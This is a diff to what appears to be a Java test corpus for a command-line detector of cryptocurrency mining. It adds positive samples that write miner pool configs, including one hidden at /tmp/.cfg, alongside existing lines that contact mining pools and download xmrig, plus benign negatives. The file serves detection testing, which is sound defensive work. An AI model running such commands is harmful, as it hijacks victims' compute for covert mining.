@@ -56,6 +56,9 @@ final class CommandLineCorpus {
                 hit(MINING, "mining.argv.pool-domain", "curl -s https://api.moneroocean.stream/stats"),
                 hit(MINING, "mining.argv.pool-domain", "ping -c1 xmr.2miners.com"),
                 hit(MINING, "mining.argv.pool-domain", "nc gulf.MoneroOcean.stream 10128"),
+                hit(MINING, "mining.argv.miner-config",
+                        "cat > c.json <<'EOF'\n{\"pools\": [{\"url\": \"198.51.100.7:80\", \"user\": \"" + WALLET + "\"}]}\nEOF"),
+                hit(MINING, "mining.argv.miner-config", "echo '{\"algo\": \"rx/0\", \"donate-level\": 0}' > /tmp/.cfg"),
                 hit(MINING, "mining.url.miner-download",
                         "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"),
                 hit(MINING, "mining.url.miner-download", "curl -LO https://example.org/dl/cpuminer-opt-linux.tar.gz"),
@@ -278,6 +281,8 @@ final class CommandLineCorpus {
 
     static Stream<String> negatives() {
         return Stream.of(
+                "cat > pools.json <<'EOF'\n{\"pools\": [{\"name\": \"db\", \"size\": 10, \"user\": \"app\"}]}\nEOF",
+                "echo '{\"hash\": {\"algorithm\": \"argon2id\"}, \"model\": {\"algo\": \"cnn\"}}' > settings.json",
                 "gcc -O2 -Wall -o app main.c util.c",
                 "make -j8",
                 "make clean && make test",
